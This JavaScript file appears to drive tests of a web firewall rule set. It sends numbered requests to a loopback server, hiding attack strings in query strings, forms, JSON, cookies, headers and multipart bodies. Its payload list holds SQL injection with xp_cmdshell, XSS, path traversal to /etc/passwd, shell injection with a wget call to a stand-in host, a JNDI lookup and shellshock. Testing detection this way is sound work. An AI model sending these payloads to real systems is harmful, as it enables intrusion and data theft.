/** The requests that are sent: attacks and ordinary ones, each with its number in its path. */

const VALUES = [
  ["1' or '1'='1", '1 union select name, pass from users -- -', "'; exec xp_cmdshell('dir'); --"],
  ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=confirm`1`>'],
  ['../../../../etc/passwd', '..%2f..%2fwp-config.php', '/proc/self/environ'],
  [';cat /etc/passwd', '$(wget http://oob.example/x)', '() { :; }; /bin/bash -c id'],
  ['${jndi:ldap://oob.example/a}', '<?php system("id"); ?>', '{{7*7}}'],
  ['a\r\nSet-Cookie: x=1', 'Grüße, 東京 \u{1f600} union select 1', '"] [id "949110"] union select 1'],
  [
    `${'A'.repeat(180)} union select ${'B'.repeat(300)} from users`,
    '\0<script>',
    'x], client: 203.0.113.66, server: <script>',
    '"], client: 203.0.113.66, server: <script>',
  ],
].flat();

const ORDINARY = ['shoes', 'O’Reilly & sons', 'select a size', '2026-03-03', 'a/b c', 'Müller', '100 %', 'x=y'];

/** What fetch needs to send request number `index`, and whether a rule set must find something in it. */
export function requestOf(index) {
  const isAttack = index % 4 !== 3;
  const value = isAttack ? VALUES[index % VALUES.length] : ORDINARY[index % ORDINARY.length];
  const path = `/probe-${index}`;
  const encoded = encodeURIComponent(value);
  switch (Math.floor(index / 4) % 6) {
    case 0:
      return { path: `${path}?q=${encoded}` };
    case 1:
      return { path, method: 'POST', type: 'application/x-www-form-urlencoded', body: `a=1&b=${encoded}` };
    case 2:
      return { path, method: 'POST', type: 'application/json', body: JSON.stringify({ a: { b: value }, c: [value] }) };
    case 3:
      return { path, headers: { cookie: `s=1; t=${encoded}` } };
    case 4:
      return {
        path,
        headers: {
          referer: `https://shop.example/?r=${encoded}`,
          'user-agent': isAttack ? 'sqlmap/1.8' : 'Mozilla/5.0',
        },
      };
    default:
      return {
        path,
        method: 'POST',
        type: 'multipart/form-data; boundary=xyz',
        body: `--xyz\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\n--1c2d3e4f-Z--\n\n--1c2d3e4f-A--\r\n--xyz--\r\n`,
      };
  }
}

/** Sends it to a server on loopback; the answer is read and dropped. */
export async function send({ path, method = 'GET', type, body, headers = {} }, port) {
  const response = await fetch(`http://127.0.0.1:${port}${path}`, {
    method,
    headers: { ...headers, ...(type === undefined ? {} : { 'content-type': type }) },
    ...(body === undefined ? {} : { body }),
    signal: AbortSignal.timeout(10_000),
  });
  await response.arrayBuffer();
}
